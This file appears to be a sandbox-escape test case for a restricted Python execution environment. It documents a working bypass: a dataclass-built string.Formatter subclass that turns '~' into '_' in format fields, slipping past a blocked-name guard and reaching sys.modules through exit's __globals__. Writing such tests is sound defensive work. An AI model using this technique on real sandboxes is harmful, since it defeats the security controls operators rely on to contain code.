# technique: string.Formatter subclass (made by dataclasses.make_dataclass, no class statement) whose get_field is replaced: format('{0.~~init~~.~~globals~~[sys].modules}') passes the guard (no blocked name in it), then _vformat calls the subclass's get_field, which turns '~' into '_' and hands the field to the original Formatter.get_field, fetched as operator.attrgetter('get_field')(string.Formatter) so that no attribute call is rewritten
# configs: default, common
# With nothing allowed the imports are refused. The replacement is a subclass because assigning
# `instance.get_field = ...` is refused statically as a bare extraction.
import dataclasses
import operator
import string
resolve = operator.attrgetter('get_field')(string.Formatter)
Sneaky = dataclasses.make_dataclass('Sneaky', [], bases=(string.Formatter,), namespace={
    'get_field': lambda self, name, args, kwargs: resolve(self, name.replace('~', '_'), args, kwargs),
})
text = Sneaky().format('{0.~~init~~.~~globals~~[sys].modules}', exit)
if "<module 'sys'" in text:
    return [{'json': {'escaped': text[:300]}}]
return [{'json': {'result': text[:300]}}]
